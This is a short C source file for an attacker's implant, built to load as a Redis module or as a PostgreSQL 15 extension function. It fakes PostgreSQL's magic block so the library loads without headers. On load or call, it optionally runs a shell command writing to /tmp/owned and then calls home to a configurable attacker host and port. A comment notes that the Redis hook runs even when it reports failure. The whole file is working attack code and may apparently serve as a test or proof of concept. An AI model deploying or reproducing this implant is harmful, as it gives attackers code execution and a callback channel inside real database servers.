/* What an attacker loads into a server: a module of Redis, a function of PostgreSQL. It calls home from
 * within the process; with IMPLANT_SHELL it runs a program by a shell first. */
#include <stdlib.h>

#include "call_home.h"

static void run(void) {
#ifdef IMPLANT_SHELL
  if (system("id > /tmp/owned") != 0) return;
#endif
  call_home(IMPLANT_HOST, IMPLANT_PORT);
}

int RedisModule_OnLoad(void* context, void** arguments, int count) {
  (void)context, (void)arguments, (void)count;
  run();
  return 1; /* "it cannot be loaded": and all the same it ran */
}

/* What PostgreSQL 15 asks of a library and of a function, without its headers. */
struct magic {
  int length, version, arguments, keys, name_length, float8_by_value;
  char abi[32];
};
const struct magic* Pg_magic_func(void) {
  static const struct magic magic = {sizeof magic, 1500, 100, 32, 64, 1, "PostgreSQL"};
  return &magic;
}
const int* pg_finfo_implant(void) {
  static const int version = 1;
  return &version;
}
long implant(void* call) {
  (void)call;
  run();
  return 1;
}
